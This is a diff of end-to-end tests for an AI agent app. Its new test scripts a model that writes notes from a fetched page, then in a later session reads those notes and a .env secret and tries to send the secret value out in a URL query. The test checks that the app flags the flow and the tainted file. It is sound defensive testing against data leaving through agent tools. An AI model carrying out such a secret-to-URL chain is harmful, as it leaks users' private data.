@@ -5,7 +5,7 @@ import { join } from 'node:path'
 import { expectAccessible } from './accessible'
 import { expect, test } from './fixtures'
 
-test('what would leave after a secret and a page were read is shown before it does', async ({ app, page, model, workspace, api }) => {
+async function startPages() {
   const asked: string[] = []
   const server = createServer((request, response) => {
     asked.push(request.url ?? '')
@@ -13,7 +13,11 @@ test('what would leave after a secret and a page were read is shown before it do
   }).listen(0, '127.0.0.1')
   await once(server, 'listening')
   const address = server.address()
-  const host = `127.0.0.1:${typeof address === 'object' ? address?.port : ''}`
+  return { asked, host: `127.0.0.1:${typeof address === 'object' ? address?.port : ''}`, close: () => server.close().closeAllConnections() }
+}
+
+test('what would leave after a secret and a page were read is shown before it does', async ({ app, page, model, workspace, api }) => {
+  const { asked, host, close } = await startPages()
   await api.put('/settings', { web: { allowedHosts: [host], privateHosts: [host], search: 'none', searchUrl: null } })
   await writeFile(join(workspace, '.env'), 'COLOUR=blue\n')
   model.reply(
@@ -34,5 +38,32 @@ test('what would leave after a secret and a page were read is shown before it do
   await row.getByRole('button', { name: 'Reject', exact: true }).click()
   await expect(app.answers.last()).toContainText('I could not.')
   expect(asked).toEqual(['/docs'])
-  server.close().closeAllConnections()
+  close()
+})
+
+test('what an agent wrote from a page counts as from outside in the next session, which says so, until a person accepts it', async ({ app, page, model, workspace, api }) => {
+  const { host, close } = await startPages()
+  await api.put('/settings', { defaultMode: 'auto-edit', web: { allowedHosts: [host], privateHosts: [host], search: 'none', searchUrl: null } })
+  await writeFile(join(workspace, '.env'), 'COLOUR=blue\n')
+  model.reply(
+    { toolCalls: [{ name: 'fetch_url', arguments: { url: `http://${host}/docs` } }] }, { toolCalls: [{ name: 'write_file', arguments: { path: 'notes.md', content: 'As the page says.' } }] }, { text: 'Written.' },
+    { toolCalls: [{ name: 'read_file', arguments: { path: 'notes.md' } }, { name: 'read_file', arguments: { path: '.env' } }] }, { toolCalls: [{ name: 'fetch_url', arguments: { url: `http://${host}/?q=blue` } }] }, { text: 'I could not.' },
+  )
+  await app.newSession()
+  await app.say('Write down what the page says')
+  await expect(app.answers.last()).toContainText('Written.')
+  await app.newSession()
+  await app.say('Now read it')
+  const flow = page.getByRole('region', { name: 'What would go where' }).first()
+  await expect(flow).toContainText(/notes\.md, written in “Write down what the page says” after it had read what fetch_url returned/)
+  await expectAccessible(page, 'flow through a file')
+  await app.button('Settings').click()
+  const dialog = page.getByRole('dialog', { name: 'Settings' })
+  await dialog.getByRole('tab', { name: 'Folders and trust', exact: true }).click()
+  const files = dialog.getByRole('list', { name: 'Written from outside or private' })
+  await expect(files.getByRole('listitem')).toContainText('notes.md')
+  await expectAccessible(page, 'labelled files')
+  await files.getByRole('button', { name: 'Accept notes.md' }).click()
+  await expect(dialog.getByText('No file here was written from such things.', { exact: false })).toBeVisible()
+  close()
 })
